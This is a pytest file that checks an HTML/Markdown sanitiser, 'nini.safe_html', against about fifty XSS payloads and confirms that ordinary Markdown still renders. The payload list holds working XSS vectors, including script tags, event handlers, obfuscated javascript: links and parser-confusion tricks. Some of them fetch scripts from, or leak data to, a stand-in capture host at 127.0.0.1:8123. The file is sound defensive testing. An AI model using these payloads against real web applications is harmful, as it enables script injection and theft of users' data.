"""nini.safe_html against real XSS payloads: none survives, ordinary Markdown does.

The output is judged by parsing it (as a browser would tokenise it), not by searching for strings:
only allow-listed tags, no event handler, no style, images only as embedded data, links only
http(s), mailto or relative, each with rel="noopener noreferrer nofollow".
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from nini.safe_html import clean_html, markdown_html

CAPTURE = "//127.0.0.1:8123"
PAYLOADS = {
    "script": f"<script>fetch('http:{CAPTURE}/s')</script>",
    "script in markdown paragraph": f"Total: 5 <script>import('{CAPTURE}/x.js')</script> done",
    "img onerror (the CSV header)": f"<img src=x onerror=\"import('{CAPTURE}/x.js')\">",
    "img onerror unquoted": "<img src=x onerror=alert(1)//>",
    "img onerror in a table cell": "| col |\n|---|\n| <img src=x onerror=alert(1)> |",
    "svg onload": '<svg onload="alert(1)"><circle r=1 /></svg>',
    "svg image href": f'<svg><image href="http:{CAPTURE}/i.png" /></svg>',
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "iframe srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "iframe src": '<iframe src="javascript:alert(1)"></iframe>',
    "form action": f'<form action="http:{CAPTURE}/f"><input name=q><button>go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">go</button>',
    "javascript: link": '<a href="javascript:alert(1)">click</a>',
    "javascript: link, mixed case and spaces": '<a href=" JaVaScRiPt:alert(1)">click</a>',
    "javascript: link, entity-encoded": '<a href="&#106;&#97;vascript&colon;alert(1)">click</a>',
    "javascript: link, tab inside": '<a href="java\tscript:alert(1)">click</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">click</a>',
    "data:text/html link": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>',
    "data:text/html base64 link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "markdown javascript: link": "[click](javascript:alert(1))",
    "markdown entity-encoded javascript: link": "[click](&#106;avascript:alert(1))",
    "markdown data: link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "markdown javascript: image": "![chart](javascript:alert(1))",
    "markdown remote image": f"![tracked](http:{CAPTURE}/leak?d=secret)",
    "markdown reference image": f"![tracked][r]\n\n[r]: http:{CAPTURE}/ref.png",
    "remote img": f'<img src="http:{CAPTURE}/r.png" alt="remote chart">',
    "protocol-relative img": f'<img src="{CAPTURE}/r.png">',
    "img srcset": f'<img srcset="http:{CAPTURE}/a.png 1x" alt="s">',
    "picture source": f'<picture><source srcset="http:{CAPTURE}/p.png"><img alt="p"></picture>',
    "video poster": f'<video poster="http:{CAPTURE}/v.png"><source src="http:{CAPTURE}/v.mp4"></video>',
    "audio": f'<audio src="http:{CAPTURE}/a.mp3" autoplay></audio>',
    "input image": f'<input type=image src="http:{CAPTURE}/i.png">',
    "css url() in style": f'<div style="background-image: url(http:{CAPTURE}/c.png)">x</div>',
    "css expression": '<p style="width: expression(alert(1))">x</p>',
    "style tag @import": f"<style>@import url(http:{CAPTURE}/s.css); body {{ background: url(x) }}</style>",
    "link stylesheet": f'<link rel=stylesheet href="http:{CAPTURE}/s.css">',
    "link prefetch": f'<link rel=prefetch href="http:{CAPTURE}/p">',
    "meta refresh": f'<meta http-equiv="refresh" content="0; url=http:{CAPTURE}/m">',
    "base href": f'<base href="http:{CAPTURE}/"><a href="x">x</a>',
    "object": f'<object data="http:{CAPTURE}/o.swf"></object>',
    "embed": f'<embed src="http:{CAPTURE}/e.svg">',
    "table background": f'<table background="http:{CAPTURE}/t.png"><tr><td>x</td></tr></table>',
    "math xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "body onload": "<body onload=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "comment smuggling": "<!--<img src=x onerror=alert(1)>-->",
    "noscript parsing": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "unclosed tag": "<img src=x onerror=alert(1)",
    "attribute breakout": "<a title='\"><img src=x onerror=alert(1)>'>t</a>",
}
ALLOWED_TAGS = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
}


class Inspector(HTMLParser):
    """Everything in a fragment that could act or load: each as a readable string."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.found.append(f"<{tag}>")
        values = dict(attrs)
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcset", "background", "poster", "formaction", "srcdoc"):
                self.found.append(f"{tag}[{name}]")
            if "127.0.0.1" in text and (tag, name) != ("a", "href"):  # a URL to load: only a link may name one
                self.found.append(f"{tag}[{name}={value}]")
            if name == "src" and not text.startswith("data:image/"):
                self.found.append(f"{tag}[src={value}]")
            if (
                name in ("href", "action", "xlink:href")
                and not text.startswith(("http://", "https://", "mailto:"))
                and ":" in text.split("/")[0]
            ):
                self.found.append(f"{tag}[{name}={value}]")
        if tag == "a":
            self.links.append(values)

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")


def inspect(fragment: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(fragment)
    inspector.close()
    return inspector


@pytest.mark.parametrize("attack", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_no_payload_survives(attack: str) -> None:
    for rendered in (markdown_html(attack), clean_html(attack)):
        inspector = inspect(rendered)
        assert inspector.found == [], rendered
        assert all(link.get("rel") == "noopener noreferrer nofollow" for link in inspector.links), rendered


def test_a_dropped_image_leaves_its_alt_text_and_an_embedded_one_stays() -> None:
    rendered = markdown_html(
        "See ![the trend](http://example.org/t.png) and ![dot](data:image/png;base64,iVBORw0KGgo=)."
    )
    assert rendered == '<p>See the trend and <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">.</p>\n'
    assert (
        markdown_html('<p><img src="https://example.org/t.png" alt="remote <chart>"></p>')
        == "<p>remote &lt;chart&gt;</p>"
    )
    # markdown-it's link check refuses data:image/svg+xml: the Markdown stays text
    assert (
        markdown_html("![svg](data:image/svg+xml;base64,PHN2Zz4=)")
        == "<p>![svg](data:image/svg+xml;base64,PHN2Zz4=)</p>\n"
    )
    assert 'src="data:image/svg+xml;base64,PHN2Zz4="' in clean_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "src" not in clean_html('<img src="data:text/html;base64,PHNjcmlwdD4=">')


def test_ordinary_markdown_survives() -> None:
    text = (
        "## Revenue\n\nIt grew **12%** to *15.0* (see [the data](https://example.org/data?q=1&r=2), "
        "[notes](notes.md) or [mail](mailto:team@example.org)).\n\n"
        "| month | revenue |\n|---|--:|\n| 3 | 15.0 |\n\n"
        "- first\n- second\n\n1. one\n2. two\n\n```python\nx = df[df.a < 3]\n```\n\n"
        "> quoted `a < b` and ~~old~~ text<br>next line\n\n<details><summary>More</summary>hidden</details>"
    )
    rendered = markdown_html(text)
    assert inspect(rendered).found == []
    for fragment in (
        "<h2>Revenue</h2>",
        "<strong>12%</strong>",
        "<em>15.0</em>",
        '<a href="https://example.org/data?q=1&amp;r=2" rel="noopener noreferrer nofollow">the data</a>',
        '<a href="notes.md" rel="noopener noreferrer nofollow">notes</a>',
        '<a href="mailto:team@example.org" rel="noopener noreferrer nofollow">mail</a>',
        "<th>month</th>",
        "<td>15.0</td>",
        "<li>first</li>",
        "<ol>",
        "<li>two</li>",
        "<pre><code>x = df[df.a &lt; 3]\n</code></pre>",
        "<code>a &lt; b</code>",
        "<s>old</s>",
        "<br>",
        "<details><summary>More</summary>hidden</details>",
    ):
        assert fragment in rendered, fragment


def test_text_that_looks_like_markup_is_shown_not_run() -> None:
    header = "<img src=x onerror=import('//127.0.0.1:8123/x.js')>"  # unquoted: CommonMark shows it as text
    assert markdown_html(f"The column is {header}") == (
        "<p>The column is &lt;img src=x onerror=import('//127.0.0.1:8123/x.js')&gt;</p>\n"
    )
